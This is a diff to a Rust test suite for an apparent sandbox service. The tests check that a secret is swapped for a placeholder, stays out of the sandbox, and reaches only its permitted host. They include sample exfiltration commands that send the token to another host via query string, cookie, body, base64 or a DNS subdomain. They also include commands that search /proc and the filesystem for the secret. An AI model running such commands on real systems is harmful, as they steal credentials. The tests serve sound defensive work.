@@ -25,6 +25,67 @@ fn world() -> (u16, TempDir) {
     (port, policies)
 }
 
+/// A web server in Python on loopback that answers with the headers it got, and writes them to a file.
+struct Echo {
+    child: std::process::Child,
+    port: u16,
+    seen: std::path::PathBuf,
+}
+
+impl Echo {
+    fn start(folder: &std::path::Path, tls: bool) -> Self {
+        let script = r#"
+import http.server, ssl, sys
+class Handler(http.server.BaseHTTPRequestHandler):
+    protocol_version = 'HTTP/1.1'
+    def do_GET(self):
+        body = (self.path + '\n' + str(self.headers)).encode()
+        open(sys.argv[1], 'ab').write(body)
+        self.send_response(200); self.send_header('content-length', str(len(body))); self.end_headers()
+        self.wfile.write(body)
+    def log_message(self, *words): pass
+server = http.server.ThreadingHTTPServer(('127.0.0.1', 0), Handler)
+if len(sys.argv) > 2:
+    context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER); context.load_cert_chain(sys.argv[2], sys.argv[3])
+    server.socket = context.wrap_socket(server.socket, server_side=True)
+print(server.server_address[1], flush=True)
+server.serve_forever()
+"#;
+        let seen = folder.join("seen");
+        let mut command = std::process::Command::new("python3");
+        command.args(["-c", script]).arg(&seen).stdout(std::process::Stdio::piped());
+        if tls {
+            make_certificates(folder);
+            command.arg(folder.join("cert.pem")).arg(folder.join("key.pem"));
+        }
+        let mut child = command.spawn().unwrap();
+        let mut line = String::new();
+        std::io::BufRead::read_line(&mut std::io::BufReader::new(child.stdout.take().unwrap()), &mut line).unwrap();
+        Self { child, port: line.trim().parse().unwrap(), seen }
+    }
+
+    fn seen(&self) -> String {
+        std::fs::read_to_string(&self.seen).unwrap_or_default()
+    }
+}
+
+impl Drop for Echo {
+    fn drop(&mut self) {
+        let _ = self.child.kill();
+        let _ = self.child.wait();
+    }
+}
+
+/// An authority, `ca.pem`, and a certificate of it for `host.internal`.
+fn make_certificates(folder: &std::path::Path) {
+    let script = "openssl req -x509 -newkey rsa:2048 -nodes -days 2 -subj /CN=test -keyout ca.key -out ca.pem\n\
+                  openssl req -newkey rsa:2048 -nodes -subj /CN=host.internal -keyout key.pem -out request.pem\n\
+                  echo subjectAltName=DNS:host.internal > names\n\
+                  openssl x509 -req -in request.pem -CA ca.pem -CAkey ca.key -CAcreateserial -days 2 -extfile names -out cert.pem";
+    let made = std::process::Command::new("sh").args(["-ec", script]).current_dir(folder).output().unwrap();
+    assert!(made.status.success(), "{made:?}");
+}
+
 fn serve(mut stream: std::net::TcpStream) {
     std::thread::spawn(move || {
         let mut head = [0; 4096];
@@ -156,4 +217,127 @@ fn a_single_command_reaches_what_it_may_and_is_told_what_it_may_not() {
     assert!(stderr.contains("example.invalid:80") && stderr.contains("--policy"), "{stderr}");
     assert!(!stderr.contains("request_access"), "{stderr}");
     assert_eq!(crate::harness::processes_with(policy.to_str().unwrap()), 0, "nobody stays behind");
+}
+
+const VALUE: &str = "the-real-value-0123456789";
+
+/// A folder with settings that have a secret for `host.internal`, and a policy `named` that reaches it. The answer is the
+/// port of somebody else who is reached too.
+fn with_secret(echo: &Echo, folder: &std::path::Path, more: &str) -> u16 {
+    let (plain, (other, _)) = (echo.port, world());
+    let settings = format!(
+        "{more}\npolicy_folder = {folder:?}\n[secrets.token]\nvalue = \"{VALUE}\"\nhosts = [\"host.internal\"]\n\
+         ports = [{plain}]\nplain_http = true\npolicies = [\"named\"]\n\
+         [services.model]\nurl = \"http://host.internal:{plain}/v1\"\nsecret = \"token\"\nvariables = [\"MODEL_URL\"]\n\
+         within = [\"127.0.0.0/8\"]\npolicies = [\"named\"]\n"
+    );
+    let file = folder.join("settings.toml");
+    std::fs::write(&file, settings).unwrap();
+    std::fs::set_permissions(&file, std::os::unix::fs::PermissionsExt::from_mode(0o600)).unwrap();
+    let policy = format!("extends = \"full_isolation\"\nhost_ports = [{plain}, {other}]\n");
+    std::fs::write(folder.join("named.toml"), policy).unwrap();
+    other
+}
+
+#[tokio::test]
+async fn a_secret_arrives_where_it_belongs_and_is_never_inside() {
+    if nothing_is_reached() {
+        return;
+    }
+    let folder = tempfile::tempdir().unwrap();
+    let echo = Echo::start(folder.path(), false);
+    let other = with_secret(&echo, folder.path(), "");
+    let config = folder.path().join("settings.toml");
+    let client = start_with(Era::Legacy, &[("SANDBOX_MCP_CONFIG", config.to_str().unwrap())]).await;
+    let session = client.sandbox_with(json!({"policy": "named"})).await;
+    let port = echo.port;
+    for how in ["", "--noproxy '*'"] {
+        let url = format!("http://host.internal:{port}/plain");
+        let command = format!("curl -sS {how} -H \"Authorization: Bearer $TOKEN\" {url}");
+        let answer = client.run(&session, &command).await;
+        // The server sends back what it got; what comes in has the placeholder again.
+        assert!(answer["stdout"].as_str().unwrap().contains("Authorization: Bearer sbx_secret_token_"), "{answer}");
+    }
+    assert_eq!(echo.seen().matches(&format!("Authorization: Bearer {VALUE}")).count(), 2, "{}", echo.seen());
+    let model = client.run(&session, "curl -sS --noproxy '*' -H \"x-api-key: $TOKEN\" $MODEL_URL/messages").await;
+    assert!(model["stdout"].as_str().unwrap().starts_with("/v1/messages"), "{model}");
+    assert!(echo.seen().contains(&format!("x-api-key: {VALUE}")), "{}", echo.seen());
+    // Nowhere inside: variables, files, memory of processes, what /proc tells.
+    let look = "env; cat /proc/*/environ /proc/*/cmdline 2>/dev/null; grep -rl 'the-real-valu[e]' / --exclude-dir=proc \
+                --exclude-dir=sys 2>/dev/null; true";
+    let found = client.run(&session, look).await;
+    assert!(!found.to_string().contains(VALUE), "{found}");
+    // To somebody else not even the placeholder goes.
+    let other = format!("http://host.internal:{other}");
+    for words in [
+        format!("{other}/?x=$TOKEN"),
+        format!("{other}/ -H \"Cookie: $TOKEN\""),
+        format!("{other}/ -d \"$TOKEN\""),
+        format!("{other}/ -d \"$(echo -n $TOKEN | base64 -w0)\""),
+        format!("--noproxy '*' {other}/$TOKEN"),
+        "http://$(echo $TOKEN | tail -c 33).invalid/".to_owned(),
+    ] {
+        let stopped = client.run(&session, &format!("curl -sS {words}")).await;
+        assert!(!stopped["stdout"].as_str().unwrap().contains("served"), "{words}: {stopped}");
+        assert!(!stopped["denials"].as_array().unwrap().is_empty(), "{words}: {stopped}");
+    }
+    let history = client.history(&session, "connection", 5).await;
+    assert!(history.iter().any(|event| event["verdict"] == "secret_leaving"), "{history:?}");
+    assert!(!json!(history).to_string().contains(VALUE));
+    let state = std::process::Command::new("grep").args(["-r", VALUE]).arg(client.state()).output().unwrap();
+    assert_eq!(text(&state.stdout), "", "the value is in the state folder");
+    assert!(!client.stderr().contains(VALUE));
+    let none = client.sandbox_with(json!({"policy": "yolo-3"})).await;
+    assert_eq!(client.output(&none, "echo -n $TOKEN").await, "", "a secret is for the policies that it names");
+}
+
+#[tokio::test]
+async fn a_sandbox_that_sends_a_placeholder_elsewhere_is_frozen_where_that_is_wanted() {
+    if nothing_is_reached() {
+        return;
+    }
+    let folder = tempfile::tempdir().unwrap();
+    let echo = Echo::start(folder.path(), false);
+    let other = with_secret(&echo, folder.path(), "freeze_on_leak = true");
+    let config = folder.path().join("settings.toml");
+    let client = start_with(Era::Legacy, &[("SANDBOX_MCP_CONFIG", config.to_str().unwrap())]).await;
+    let session = client.sandbox_with(json!({"policy": "named"})).await;
+    let loops = "while true; do date +%s%N > /tmp/clock; sleep 0.05; done";
+    client.ok("run_command", json!({"session_id": session, "command": loops, "wait_seconds": 0})).await;
+    let leak = format!("curl -s -m 5 http://host.internal:{other}/$TOKEN");
+    client.ok("run_command", json!({"session_id": session, "command": leak, "wait_seconds": 2})).await;
+    client.history(&session, "frozen", 1).await;
+    let before = client.output(&session, "cat /tmp/clock").await;
+    tokio::time::sleep(std::time::Duration::from_millis(300)).await;
+    assert_eq!(client.output(&session, "cat /tmp/clock").await, before, "what ran goes on");
+    let url = format!("http://host.internal:{}/x", echo.port);
+    assert_ne!(fetch(&client, &session, &url, "-m 3").await["exit_code"], 0, "its network is still there");
+}
+
+#[tokio::test]
+async fn tls_is_opened_for_the_host_of_a_secret_and_tools_trust_it() {
+    if nothing_is_reached() {
+        return;
+    }
+    let folder = tempfile::tempdir().unwrap();
+    let echo = Echo::start(folder.path(), true);
+    with_secret(&echo, folder.path(), "");
+    let (config, trusted) = (folder.path().join("settings.toml"), folder.path().join("ca.pem"));
+    let variables = [("SANDBOX_MCP_CONFIG", config.to_str().unwrap()), ("SSL_CERT_FILE", trusted.to_str().unwrap())];
+    let client = start_with(Era::Legacy, &variables).await;
+    let session = client.sandbox_with(json!({"policy": "named"})).await;
+    let url = format!("https://host.internal:{}/secure", echo.port);
+    let python = format!(
+        "import os, urllib.request as u; print(u.urlopen(u.Request('{url}', headers={{'X-Key': os.environ['TOKEN']}})).status)"
+    );
+    let tools = [
+        format!("curl -sS -o /dev/null -w '%{{http_code}}' -H \"X-Key: $TOKEN\" {url}"),
+        format!("curl --noproxy '*' -sS -o /dev/null -w '%{{http_code}}' -H \"X-Key: $TOKEN\" {url}"),
+        format!("python3 -c \"{python}\""),
+    ];
+    for (number, tool) in tools.iter().enumerate() {
+        let ran = client.run(&session, tool).await;
+        assert_eq!(ran["stdout"].as_str().unwrap().trim(), "200", "{tool}: {ran}");
+        assert_eq!(echo.seen().matches(VALUE).count(), number + 1, "{tool}: {}", echo.seen());
+    }
 }
